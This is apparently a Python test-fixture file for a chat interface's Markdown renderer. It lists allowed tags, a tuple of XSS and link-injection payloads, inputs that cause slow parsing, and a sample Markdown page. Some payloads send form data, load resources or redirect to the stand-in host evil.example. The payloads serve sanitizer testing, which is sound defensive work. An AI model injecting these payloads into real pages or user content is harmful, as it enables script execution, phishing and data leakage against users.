"""Texts that a model may write to make a page run, load or show what it should not; and Markdown of every kind."""

from __future__ import annotations

TAGS = frozenset("p h3 h4 h5 h6 hr blockquote ul ol li pre table thead tbody tr th td strong em del code a".split())
"""What an answer may become; the page adds boxes around code and tables, and a button that copies."""

ATTACKS = (
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg onload=window.pwned=1><animate onbegin=window.pwned=1 attributeName=x></svg>",
    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "<style>* { display: none }</style><link rel=stylesheet href=//evil.example/a.css>",
    "<form action=//evil.example><input name=key><button id=send>Send</button></form>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<a href='javascript:window.pwned=1'>a</a><details open ontoggle=window.pwned=1>",
    "[a](javascript:window.pwned=1)",
    "[a](JaVaScRiPt:window.pwned=1) [a](\x01javascript:window.pwned=1) [a](&#106;avascript:window.pwned=1)",
    "[a](java\tscript:window.pwned=1) [a](java\nscript:window.pwned=1) [a]( javascript:window.pwned=1 )",
    "[a](data:text/html,<script>window.pwned=1</script>) [a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x) [a](file:///etc/passwd) [a](blob:https://evil.example/x) [a](about:blank) [a](ftp://evil.example)",
    "[a](//evil.example) [a](/pause) [a](#text) [a](?x) [a](\\\\evil.example)",
    "[a](http:evil.example) [a](https:/evil.example) [a](https://) [a](https:///evil.example)",
    "[a](https://bank.example@evil.example/) [a](https://bank.example\\@evil.example) [a](https://b\u0430nk.example)",
    "[a](https://evil.example/\"onmouseover=\"window.pwned=1) [a](https://evil.example/'onclick='window.pwned=1)",
    '[a](https://evil.example "t" onclick="window.pwned=1") [a](https://evil.example/><script>window.pwned=1</script>)',
    "![a](https://evil.example/pixel.png) ![a](x onerror=window.pwned=1) ![](javascript:window.pwned=1)",
    "<javascript:window.pwned=1> <https://evil.example/<script>window.pwned=1</script>>",
    "[<img src=x onerror=window.pwned=1>](https://evil.example) **<b onclick=window.pwned=1>b</b>**",
    "[a]: javascript:window.pwned=1\n[a] [a][a]",
    "`<script>window.pwned=1</script>` ``` <img src=x onerror=window.pwned=1>",
    "```html\n<script>window.pwned = 1</script>\n</code></pre><img src=x onerror=window.pwned=1>\n```",
    '```" onclick="window.pwned=1" x="\n</pre><script>window.pwned=1</script>',
    "# <script>window.pwned=1</script>\n> <img src=x onerror=window.pwned=1>\n- <svg/onload=window.pwned=1>",
    "| <script>window.pwned=1</script> | b |\n|---|---|\n| <img src=x onerror=window.pwned=1> | [a](javascript:1) |",
    "| a | b |\n|:-onclick=window.pwned=1-:|---|\n| 1 | 2 |",
    "\u202egnp.exe\u202c [\u202emoc.knab//:sptth](https://evil.example) \x00 \ufeff \ud83d",
    "constructor __proto__ [a](__proto__) ```__proto__\ntoString\n```",
)
HUGE = (
    "**a ", "*a **b ", "_a ", "~~a ", "* ", "`", "` `` ", "[", "[](", "![a](", "[a](b", "[](a(b)[](b)", "((", "<https:",
    "https://a.", "https://a)))", "> ", "> - ", "- ", "1. ", "  - a\n", "- a\n\n", "- a\n ", "# ", " #", "|", "|-",
    "a|b\n-|-\n",
    "```\n", "~~~a`\n", "\\", "\n", "   \n", "a  \n", "---\n", "a*", "*a_b~~", "<", "&", "\t", "é*",
)  # fmt: skip
"""Texts of one of these many times over take time in proportion to their length."""
SHOWCASE = """# A heading
Some **bold**, *slanted*, ~~gone~~ and `code`, a [link](https://pytorch.org/docs) and https://example.org.

1. one
   - below
   - it
2. two

> A quote
> of two lines

| name | count |
|:-----|------:|
| used | 24 |

```python
print("a line that is much longer than the screen of a phone is wide, so that it scrolls", 1, 2, 3, 4, 5)
```
---
The end."""
